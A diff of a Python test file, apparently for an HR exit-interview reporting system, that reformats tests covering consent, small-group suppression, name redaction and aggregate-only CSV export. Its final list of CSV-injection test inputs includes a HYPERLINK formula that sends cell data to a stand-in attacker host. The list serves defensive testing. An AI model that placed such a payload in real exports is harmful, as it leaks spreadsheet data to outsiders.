@@ -4,7 +4,7 @@ any trend line, sees another test's cases or reports."""
 
 import csv
 import io
-from datetime import date, datetime, time, timedelta, timezone
+from datetime import UTC, date, datetime, time, timedelta
 
 import pytest
 from pydantic import ValidationError
@@ -22,7 +22,7 @@ from reports.tables import ReportRow
 from tests.report_support import csv_rows
 
 K = 5
-NOW = datetime(2026, 11, 1, tzinfo=timezone.utc)
+NOW = datetime(2026, 11, 1, tzinfo=UTC)
 
 
 def quarter(year: int, number: int) -> tuple[date, date]:
@@ -30,15 +30,21 @@ def quarter(year: int, number: int) -> tuple[date, date]:
 
 
 def closing_in(period: tuple[date, date]) -> datetime:
-    return datetime.combine(period[0] + timedelta(days=9), time(12), tzinfo=timezone.utc)
+    return datetime.combine(period[0] + timedelta(days=9), time(12), tzinfo=UTC)
 
 
-async def seed(sessions, period, answers: list[dict | None], *, scope="advice_and_experiences", revoked_at=None, **case_fields) -> list[str]:
+async def seed(
+    sessions, period, answers: list[dict | None], *, scope="advice_and_experiences", revoked_at=None, **case_fields
+) -> list[str]:
     """Closed cases in the period, one per answer set; None in the list is a case without interview."""
     ids = []
     async with sessions.begin() as session:
         for answer in answers:
-            case = closed_case(closed_at=closing_in(period), interview_status="held" if answer is not None else "declined", **case_fields)
+            case = closed_case(
+                closed_at=closing_in(period),
+                interview_status="held" if answer is not None else "declined",
+                **case_fields,
+            )
             session.add(case)
             await session.flush()
             if answer is not None:
@@ -49,15 +55,27 @@ async def seed(sessions, period, answers: list[dict | None], *, scope="advice_an
 
 async def figures_for(sessions, period, k: int = K, as_of: datetime = NOW):
     async with sessions() as session:
-        return await compile_figures(session, report_id="test", start=period[0], end=period[1], zone="Europe/Amsterdam", k=k, as_of=as_of)
+        return await compile_figures(
+            session, report_id="test", start=period[0], end=period[1], zone="Europe/Amsterdam", k=k, as_of=as_of
+        )
 
 
 async def publish(sessions, period, k: int = K, as_of: datetime = NOW) -> str:
     """Compile and store the period's report, as the report activity does."""
     report_id = periods.report_id(*period)
     async with sessions.begin() as session:
-        compiled = await compile_report(session, report_id=report_id, start=period[0], end=period[1], zone="Europe/Amsterdam", k=k, as_of=as_of)
-        row = ReportRow(id=report_id, revision=1, run_id="test", period_start=period[0], period_end=period[1], status="published", requested_by="test")
+        compiled = await compile_report(
+            session, report_id=report_id, start=period[0], end=period[1], zone="Europe/Amsterdam", k=k, as_of=as_of
+        )
+        row = ReportRow(
+            id=report_id,
+            revision=1,
+            run_id="test",
+            period_start=period[0],
+            period_end=period[1],
+            status="published",
+            requested_by="test",
+        )
         published.add(session, row, compiled)
     return report_id
 
@@ -85,9 +103,37 @@ def assert_not_derivable(table: CountTable, k: int = K) -> None:
 # Consent.
 async def test_only_interviews_with_consent_for_the_experiences_count_in_ratings_and_reasons(sessions):
     period = quarter(1991, 2)
-    await seed(sessions, period, [record(rating=5, recommend=10, primary="workload", went_well="Goede sfeer.") for _ in range(5)])
-    await seed(sessions, period, [record(rating=1, recommend=0, primary="manager", went_well="Niets ging goed.", most_important_advice="Alleen advies.") for _ in range(5)], scope="advice_only")
-    await seed(sessions, period, [record(rating=1, recommend=0, primary="manager", went_well="Geheim.", most_important_advice="Geheim advies.") for _ in range(5)], scope="nothing")
+    await seed(
+        sessions,
+        period,
+        [record(rating=5, recommend=10, primary="workload", went_well="Goede sfeer.") for _ in range(5)],
+    )
+    await seed(
+        sessions,
+        period,
+        [
+            record(
+                rating=1,
+                recommend=0,
+                primary="manager",
+                went_well="Niets ging goed.",
+                most_important_advice="Alleen advies.",
+            )
+            for _ in range(5)
+        ],
+        scope="advice_only",
+    )
+    await seed(
+        sessions,
+        period,
+        [
+            record(
+                rating=1, recommend=0, primary="manager", went_well="Geheim.", most_important_advice="Geheim advies."
+            )
+            for _ in range(5)
+        ],
+        scope="nothing",
+    )
 
     figures = await figures_for(sessions, period)
 
@@ -103,16 +149,36 @@ async def test_only_interviews_with_consent_for_the_experiences_count_in_ratings
 
 
 async def test_prefer_not_to_say_counts_as_no_answer(sessions):
-    """"Wil ik niet zeggen" at the recommend score, a rating, the main reason and a belonging rating: those
+    """ "Wil ik niet zeggen" at the recommend score, a rating, the main reason and a belonging rating: those
     respondents count in the response, not in the figures of the questions they chose not to answer."""
     period = quarter(1991, 3)
     declined = ["recommend_score", "experiences.work_content.rating", "primary_reason", "belonging.felt_safe"]
-    experiences = {area: {"rating": None if area == "work_content" else 2, "comment": ""} for area in ("work_content", "working_conditions", "working_relations", "terms_of_employment", "work_organisation")}
+    experiences = {
+        area: {"rating": None if area == "work_content" else 2, "comment": ""}
+        for area in (
+            "work_content",
+            "working_conditions",
+            "working_relations",
+            "terms_of_employment",
+            "work_organisation",
+        )
+    }
     belonging = {"felt_safe": None, "felt_at_home": 2, "felt_valued": 2, "influences": []}
     await seed(sessions, period, [record(rating=5, recommend=10, primary="workload") for _ in range(5)])
-    await seed(sessions, period, [
-        record(primary=None, recommend_score=None, experiences=experiences, belonging=belonging, prefer_not_to_say=declined) for _ in range(5)
-    ])
+    await seed(
+        sessions,
+        period,
+        [
+            record(
+                primary=None,
+                recommend_score=None,
+                experiences=experiences,
+                belonging=belonging,
+                prefer_not_to_say=declined,
+            )
+            for _ in range(5)
+        ],
+    )
 
     figures = await figures_for(sessions, period)
 
@@ -129,8 +195,18 @@ async def test_prefer_not_to_say_counts_as_no_answer(sessions):
 async def test_a_consent_revoked_before_the_report_leaves_it(sessions):
     period = quarter(1992, 2)
     await seed(sessions, period, [record(rating=4, should_improve="Meer overleg.") for _ in range(6)])
-    await seed(sessions, period, [record(rating=1, primary="manager", should_improve="Ingetrokken verhaal.")], revoked_at=NOW - timedelta(days=1))
-    await seed(sessions, period, [record(rating=2, primary="health", should_improve="Later ingetrokken.")], revoked_at=NOW + timedelta(days=1))
+    await seed(
+        sessions,
+        period,
+        [record(rating=1, primary="manager", should_improve="Ingetrokken verhaal.")],
+        revoked_at=NOW - timedelta(days=1),
+    )
+    await seed(
+        sessions,
+        period,
+        [record(rating=2, primary="health", should_improve="Later ingetrokken.")],
+        revoked_at=NOW + timedelta(days=1),
+    )
 
     figures = await figures_for(sessions, period)
 
@@ -150,13 +226,23 @@ async def test_a_consent_revoked_before_the_report_leaves_it(sessions):
 # Small groups.
 async def test_everything_resting_on_fewer_than_k_respondents_is_suppressed(sessions):
     period = quarter(1993, 2)
-    await seed(sessions, period, [record(rating=2, recommend=3, went_well="Herkenbaar verhaal.", target_group={"gender": "woman"}) for _ in range(4)])
+    await seed(
+        sessions,
+        period,
+        [
+            record(rating=2, recommend=3, went_well="Herkenbaar verhaal.", target_group={"gender": "woman"})
+            for _ in range(4)
+        ],
+    )
 
     figures = await figures_for(sessions, period)
 
     assert figures.respondents is None and figures.departures_by_type.total is None
     assert all(c.count is None for c in figures.departures_by_type.cells if c.key == "resignation")
-    assert all(r.mean is None and r.respondents is None and all(c.count is None for c in r.distribution) for r in figures.ratings + figures.belonging)
+    assert all(
+        r.mean is None and r.respondents is None and all(c.count is None for c in r.distribution)
+        for r in figures.ratings + figures.belonging
+    )
     assert figures.recommend.mean is None and figures.recommend.nps is None
     assert all(g.respondents is None and set(g.means.values()) == {None} for b in figures.breakdowns for g in b.groups)
     assert section(figures, "went_well").suppressed and section(figures, "went_well").texts == []
@@ -236,16 +322,31 @@ async def test_a_distribution_shown_beside_its_mean_is_all_or_nothing(sessions):
     assert work.mean == round(26 / 6, 2) and work.respondents == 6
     assert [c.count for c in work.distribution] == [None] * 5
     rec = figures.recommend
-    assert rec.mean == round(52 / 6, 2) and (rec.promoters, rec.passives, rec.detractors, rec.nps) == (None, None, None, None)
+    assert rec.mean == round(52 / 6, 2) and (rec.promoters, rec.passives, rec.detractors, rec.nps) == (
+        None,
+        None,
+        None,
+        None,
+    )
 
 
 async def test_a_distribution_without_small_cells_is_shown(sessions):
     period = quarter(1998, 2)
-    await seed(sessions, period, [record(rating=4, recommend=9) for _ in range(5)] + [record(rating=2, recommend=5) for _ in range(5)])
+    await seed(
+        sessions,
+        period,
+        [record(rating=4, recommend=9) for _ in range(5)] + [record(rating=2, recommend=5) for _ in range(5)],
+    )
 
     figures = await figures_for(sessions, period)
 
-    assert {c.key: c.count for c in rating(figures, "work_content").distribution} == {"1": 0, "2": 5, "3": 0, "4": 5, "5": 0}
+    assert {c.key: c.count for c in rating(figures, "work_content").distribution} == {
+        "1": 0,
+        "2": 5,
+        "3": 0,
+        "4": 5,
+        "5": 0,
+    }
     assert (figures.recommend.promoters, figures.recommend.detractors, figures.recommend.nps) == (5, 5, 0.0)
 
 
@@ -258,7 +359,9 @@ async def test_hidden_cells_are_not_named_anywhere_only_counted_together(session
     figures = await figures_for(sessions, period)
 
     assert cells(figures.primary_reasons) == {"workload": 8} and figures.primary_reasons.other == 5
-    reasons = [row for row in csv_rows(render_csv(figures)) if row["section"] == "reasons" and row["dimension"] == "primary"]
+    reasons = [
+        row for row in csv_rows(render_csv(figures)) if row["section"] == "reasons" and row["dimension"] == "primary"
+    ]
     assert {row["key"] for row in reasons} == {"total", "workload", ""}
     for text in (figures.model_dump_json(), render_html(figures, "en"), render_html(figures, "nl")):
         assert "studies" not in text and "commute" not in text.lower() and "Woon-werkverkeer" not in text
@@ -307,7 +410,11 @@ async def test_without_an_earlier_report_the_trend_has_only_this_period(sessions
 # Free text.
 async def test_free_text_shows_only_when_enough_people_wrote_it(sessions):
     period = quarter(2002, 2)
-    await seed(sessions, period, [record(went_well="Fijne collega's.", most_important_advice="Investeer in mensen.") for _ in range(2)])
+    await seed(
+        sessions,
+        period,
+        [record(went_well="Fijne collega's.", most_important_advice="Investeer in mensen.") for _ in range(2)],
+    )
     await seed(sessions, period, [record(most_important_advice=f"Advies {n}.") for n in range(3)])
 
     figures = await figures_for(sessions, period)
@@ -327,12 +434,21 @@ async def test_names_and_email_addresses_are_removed_from_free_text(sessions):
         "Met anouk kon ik goed praten, maar Bram Janssens luisterde niet. "
         "Meneer Janssens mailde vanaf b.janssens@example.org. Roos Verbeek hielp wel; een roos voor haar."
     )
-    await seed(sessions, period, [record(should_improve=text, most_important_advice="Vraag Verbeek om raad.") for _ in range(5)], employee_name="Anouk de Vries", manager_name="Bram Janssens")
+    await seed(
+        sessions,
+        period,
+        [record(should_improve=text, most_important_advice="Vraag Verbeek om raad.") for _ in range(5)],
+        employee_name="Anouk de Vries",
+        manager_name="Bram Janssens",
+    )
 
     figures = await figures_for(sessions, period)
 
     [improve] = section(figures, "should_improve").texts
-    assert improve == "Met […] kon ik goed praten, maar […] luisterde niet. Meneer […] mailde vanaf […]. […] hielp wel; een roos voor haar."
+    assert (
+        improve
+        == "Met […] kon ik goed praten, maar […] luisterde niet. Meneer […] mailde vanaf […]. […] hielp wel; een roos voor haar."
+    )
     assert section(figures, "advice").texts == ["Vraag […] om raad."]
     html = render_html(figures, "en")
     for leaked in ("anouk", "Anouk", "Janssens", "@example.org", "Verbeek", "Roos"):
@@ -341,17 +457,33 @@ async def test_names_and_email_addresses_are_removed_from_free_text(sessions):
 
 async def test_the_csv_holds_aggregated_figures_only(sessions):
     period = quarter(2004, 2)
-    await seed(sessions, period, [record(went_well="Tekst die niet in de CSV hoort.") for _ in range(5)], employee_name="Sanne Peeters")
+    await seed(
+        sessions,
+        period,
+        [record(went_well="Tekst die niet in de CSV hoort.") for _ in range(5)],
+        employee_name="Sanne Peeters",
+    )
 
     csv = render_csv(await figures_for(sessions, period))
 
     assert "Tekst die niet" not in csv and "Sanne" not in csv and "offboarding-" not in csv
-    mean = next(row for row in csv_rows(csv) if (row["section"], row["dimension"], row["measure"]) == ("ratings", "work_content", "mean"))
+    mean = next(
+        row
+        for row in csv_rows(csv)
+        if (row["section"], row["dimension"], row["measure"]) == ("ratings", "work_content", "mean")
+    )
     assert (mean["value"], mean["base"], mean["suppressed"]) == ("4.0", "5", "")
 
 
 # The CSV in a spreadsheet.
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+31 Sales", "-2+3", "@SUM(A1:A9)", "\tTab Team", "\rCR Team"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
+    "+31 Sales",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTab Team",
+    "\rCR Team",
+]
 
 
 async def test_no_csv_cell_a_spreadsheet_would_run_as_a_formula(sessions):
